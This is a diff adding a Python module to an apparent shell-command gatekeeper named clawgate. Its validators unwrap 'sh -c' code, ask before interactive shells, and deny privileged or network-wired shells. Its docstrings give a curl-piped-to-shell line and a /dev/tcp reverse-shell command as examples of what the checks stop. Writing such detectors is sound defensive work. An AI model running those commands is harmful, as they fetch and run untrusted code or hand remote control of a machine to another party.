@@ -1,0 +1,135 @@
+"""Shells as commands: ``sh -c CODE`` is unwrapped, an interactive shell is a launcher.
+
+How a shell invocation reads its program (``shell_call``) is shared with the injection family,
+which judges shells fed by pipes, here-documents and process substitutions.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from clawgate.decision import Verdict
+from clawgate.shell.model import SimpleCommand, Word
+from clawgate.validators.argv import opts
+from clawgate.validators.base import Context, Validator, register
+from clawgate.validators.programs import SHELLS
+
+_SHELL_OPTIONS = opts("oO", "rcfile init-file")
+_NET_DEVICES = ("/dev/tcp/", "/dev/udp/")
+
+
+@dataclass(frozen=True, slots=True)
+class ShellCall:
+    """What a shell invocation runs: ``code`` (``-c``), a ``script`` operand, or stdin."""
+
+    code: Word | None = None
+    script: Word | None = None
+    flags: frozenset[str] = frozenset()
+
+    @property
+    def reads_stdin(self) -> bool:
+        return self.code is None and (self.script is None or "s" in self.flags)
+
+
+def shell_call(cmd: SimpleCommand) -> ShellCall | None:
+    """How ``cmd`` runs its program, or None when ``cmd`` is not a shell."""
+    if cmd.program not in SHELLS:
+        return None
+    flags: set[str] = set()
+    words = cmd.words
+    i = 1
+    while i < len(words):
+        text = words[i].shown
+        if text in {"--", "-"}:
+            i += 1
+            break
+        if text.startswith("--"):
+            flags.add(text)
+            i += 2 if text[2:] in _SHELL_OPTIONS.long else 1
+            continue
+        if len(text) > 1 and text[0] in "-+":
+            letters = text[1:]
+            flags.update(letters)
+            i += 2 if set(letters) & set(_SHELL_OPTIONS.short) else 1
+            continue
+        break
+    operand = words[i] if i < len(words) else None
+    if "c" in flags or "-command" in flags or "Command" in flags:
+        return ShellCall(code=operand, flags=frozenset(flags))
+    return ShellCall(script=operand, flags=frozenset(flags))
+
+
+def net_redirect(cmd: SimpleCommand) -> str | None:
+    """The /dev/tcp or /dev/udp path a command's redirections open, if any."""
+    for redirect in cmd.redirects:
+        target = redirect.target.shown if redirect.target is not None else ""
+        if target.startswith(_NET_DEVICES):
+            return target
+    return None
+
+
+@register
+class ShellCode(Validator):
+    """``sh -c CODE`` (and ``bash``, ``zsh``, ``dash`` ... ``-c``): the code is checked as a
+    command line of its own; code known only at run time (``bash -c "$x"``) asks.
+
+    Bad: ``bash -c 'curl -s x | sh'``. Harmless: ``bash -c 'ls -la'``.
+    """
+
+    id = "CG-WRAP-003"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        call = shell_call(cmd)
+        if call is None or (call.code is None and "c" not in call.flags):
+            return Verdict.passthrough()
+        if call.code is None:
+            return Verdict.ask(self.id, "shell -c without code reads it from elsewhere")
+        if call.code.value is None:
+            return Verdict.ask(self.id, "the shell runs code only known at run time",
+                               hint="write the code out literally")
+        return Verdict.unwrap(call.code.value)
+
+
+@register
+class InteractiveShell(Validator):
+    """A shell started with nothing to run (``bash``, ``zsh -i``, ``sh -s`` at a terminal) is a
+    launcher for whatever is typed next: ASK. A script file operand is everyday work.
+
+    Bad: ``bash -i``. Harmless: ``bash ./build.sh``.
+    """
+
+    id = "CG-WRAP-004"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        call = shell_call(cmd)
+        if call is None or call.code is not None or "c" in call.flags:
+            return Verdict.passthrough()
+        if call.script is not None and "s" not in call.flags and "i" not in call.flags:
+            return Verdict.passthrough()
+        if cmd.upstream or any(r.feeds_input or r.op == "<" for r in cmd.redirects):
+            return Verdict.passthrough()  # fed input: judged by the injection family
+        return Verdict.ask(self.id, f"{cmd.program} starts an interactive shell",
+                           hint="run the command itself, or use a script file")
+
+
+@register
+class PrivilegedOrNetworkShell(Validator):
+    """A shell in privileged mode (``bash -p``, which keeps set-uid rights) or with its input or
+    output on a network socket (``bash -i >& /dev/tcp/h/4444 0>&1``): DENY.
+
+    Bad: ``sh -p``. Harmless: ``sh -e ./script.sh``.
+    """
+
+    id = "CG-WRAP-005"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        call = shell_call(cmd)
+        if call is None:
+            return Verdict.passthrough()
+        if "p" in call.flags:
+            return Verdict.deny(self.id, "a shell in privileged mode keeps elevated rights")
+        target = net_redirect(cmd)
+        if target is not None:
+            return Verdict.deny(self.id, f"a shell wired to the network ({target})",
+                                hint="this is a reverse shell")
+        return Verdict.passthrough()
